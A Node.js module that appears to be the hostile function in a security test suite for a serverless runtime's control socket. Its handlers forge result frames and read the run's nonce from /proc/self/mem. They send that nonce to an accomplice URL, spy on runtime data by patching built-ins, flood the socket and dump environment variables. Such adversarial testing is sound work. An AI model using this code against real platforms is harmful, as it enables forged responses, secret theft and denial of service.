// Attacks on the socket between runtime and platform: frames that this run has no business to write.
'use strict';

const { randomBytes } = require('node:crypto');
const fs = require('node:fs');

const CONTROL_FD = 3;
const INVOKE = 2;
const READY = 16;
const RESULT = 18;
const HEADER_BYTES = 13;
const NO_NONCE = Buffer.alloc(8);

function frame(type, nonce, payload, lengthBytes = payload.length) {
  const head = Buffer.alloc(HEADER_BYTES);
  head.writeUInt32LE(lengthBytes, 0);
  head[4] = type;
  nonce.copy(head, 5);
  return Buffer.concat([head, payload]);
}

function twoParts(head, body, headBytes) {
  const first = Buffer.from(typeof head === 'string' ? head : JSON.stringify(head));
  const length = Buffer.alloc(4);
  length.writeUInt32LE(headBytes ?? first.length, 0);
  return Buffer.concat([length, first, Buffer.from(JSON.stringify(body))]);
}

const answer = (text) => ({ statusCode: 200, body: text });
const result = (nonce, text, head = {}) => frame(RESULT, nonce, twoParts(head, answer(text)));

/** Writes all, in spite of a full socket: asks again after `pauseMs`, or at once. */
function write(bytes, pauseMs = 5) {
  for (let at = 0; at < bytes.length; ) {
    try {
      at += fs.writeSync(CONTROL_FD, bytes, at);
    } catch (error) {
      if (error.code !== 'EAGAIN') throw error;
      if (pauseMs > 0) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, pauseMs);
    }
  }
}

/** This run's nonce, dug out of the process's own memory: that much a tenant can always do. */
function ownNonce({ awsRequestId }) {
  const mark = Buffer.from(`{"requestId":"${awsRequestId}"`);
  const memory = fs.openSync('/proc/self/mem', 'r');
  for (const line of fs.readFileSync('/proc/self/maps', 'utf8').split('\n')) {
    const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line) ?? [];
    if (from === undefined) continue;
    const start = Number.parseInt(from, 16);
    const bytes = Buffer.allocUnsafeSlow(Math.min(Number.parseInt(to, 16) - start, 1 << 26));
    let length = 0;
    try {
      length = fs.readSync(memory, bytes, 0, bytes.length, start);
    } catch {
      continue;
    }
    for (let at = bytes.indexOf(mark); at >= 0 && at < length; at = bytes.indexOf(mark, at + 1)) {
      if (at >= 17 && bytes[at - 13] === INVOKE) return Buffer.from(bytes.subarray(at - 12, at - 4));
    }
  }
  throw new Error('the nonce was not found');
}

const GARBAGE = {
  length: () => frame(RESULT, randomBytes(8), Buffer.alloc(16), 0xffffffff),
  noise: () => Buffer.concat([Buffer.from([255, 255, 255, 255]), randomBytes(1 << 20)]),
  type: (context) => frame(200, ownNonce(context), Buffer.alloc(0)),
  ready: (context) => frame(READY, ownNonce(context), Buffer.from('{}')),
  'short payload': (context) => frame(RESULT, ownNonce(context), Buffer.alloc(2)),
  'head outside': (context) => frame(RESULT, ownNonce(context), twoParts({}, answer('forged'), 0xfffffff0)),
  'head not JSON': (context) => frame(RESULT, ownNonce(context), twoParts('{{{', answer('forged'))),
  'body not JSON': (context) => frame(RESULT, ownNonce(context), Buffer.concat([Buffer.from([2, 0, 0, 0]), Buffer.from('{}nonsense')])),
};

const spy = { isOn: false, seen: [] };

/** Patches what a careless runtime would call while it handles a frame. */
function patch() {
  const record = (values) => {
    if (!spy.isOn) return;
    spy.isOn = false;
    for (const value of values) {
      if (typeof value === 'string') spy.seen.push(Buffer.from(value).toString('hex'));
      else if (value instanceof Uint8Array) spy.seen.push(Buffer.from(value.buffer, value.byteOffset, value.byteLength).toString('hex'));
    }
    spy.isOn = true;
  };
  const skipped = new Set(['constructor', 'caller', 'callee', 'arguments']);
  const owners = [JSON, Buffer, Buffer.prototype, Uint8Array.prototype, Object.getPrototypeOf(Uint8Array.prototype), Promise, Promise.prototype,
    Array.prototype, String.prototype, Map.prototype, Reflect, require('node:net').Socket.prototype, require('node:stream').Readable.prototype,
    require('node:events').prototype, fs, process];
  for (const owner of owners) {
    for (const name of Object.getOwnPropertyNames(owner)) {
      const { value, writable } = Object.getOwnPropertyDescriptor(owner, name);
      if (typeof value !== 'function' || !writable || skipped.has(name) || /^[A-Z]/.test(name)) continue;
      owner[name] = function (...words) {
        record([this, ...words]);
        const got = Reflect_apply(value, this, words);
        record([got]);
        return got;
      };
    }
  }
  for (const name of ['length', 'type', 'nonce', 'payload', 'requestId', 'head', 'body']) {
    Object.defineProperty(Object.prototype, name, { configurable: true, set(value) { record([value]); Object_define(this, name, { value, writable: true, configurable: true, enumerable: true }); } });
  }
  spy.isOn = true;
  JSON.parse('{"control":"a-word-that-the-spy-hears"}');
}
const Reflect_apply = Reflect.apply;
const Object_define = Object.defineProperty;

module.exports = {
  forgeUnknown: () => {
    for (let n = 0; n < 500; n++) write(result(n % 2 ? randomBytes(8) : NO_NONCE, 'forged'));
    return 'genuine';
  },
  forgeTwice: (_, context) => {
    const nonce = ownNonce(context);
    write(Buffer.concat([result(nonce, 'first'), result(nonce, 'second'), result(nonce, 'third')]));
    return 'late';
  },
  /** Hands the nonce of a run that is still going to an accomplice, and goes on. */
  betray: async ({ accomplice, token }, context) => {
    const argument = { nonce: ownNonce(context).toString('hex'), requestId: context.awsRequestId };
    const headers = { authorization: `Bearer ${token}` };
    const body = JSON.stringify({ attack: 'forgeFor', argument });
    const forged = await (await fetch(accomplice, { method: 'POST', headers, body })).text();
    return { forged: JSON.parse(forged), own: 'genuine' };
  },
  forgeFor: ({ nonce, requestId }) => {
    for (let n = 0; n < 100; n++) write(result(Buffer.from(nonce, 'hex'), 'forged by the accomplice', { requestId }));
    return 'forged';
  },
  garbage: async (kind, context) => {
    write(GARBAGE[kind](context));
    await new Promise((resolve) => setTimeout(resolve, 1 << 30));
  },
  halfFrame: async (_, context) => {
    write(frame(RESULT, ownNonce(context), Buffer.alloc(100), 6_000_000));
    await new Promise((resolve) => setTimeout(resolve, 1 << 30));
  },
  lie: (_, context) => {
    write(result(ownNonce(context), 'lied', { stdoutBytes: 1e15, stderrBytes: -1 }));
    return 'late';
  },
  hangUp: async () => {
    fs.closeSync(CONTROL_FD);
    await new Promise((resolve) => setTimeout(resolve, 1 << 30));
  },
  patch: () => patch(),
  spied: (_, context) => {
    spy.isOn = false;
    const seen = spy.seen.join('\n');
    const hears = (text) => seen.includes(Buffer.from(text).toString('hex'));
    return { control: hears('a-word-that-the-spy-hears'), nonce: seen.includes(ownNonce(context).toString('hex')), head: hears('"functionArn"') };
  },
  flood: async (payloadBytes) => {
    const count = Math.ceil((1 << 22) / (payloadBytes + HEADER_BYTES));
    const bytes = Buffer.concat(Array.from({ length: count }, () => frame(RESULT, randomBytes(8), Buffer.alloc(payloadBytes))));
    for (;;) write(bytes, 0);
  },
  print: (lines) => { for (const line of lines) console.log(line); },
  tokenSeen: (_, context, event) => JSON.stringify({ event, context, env: process.env }),
};
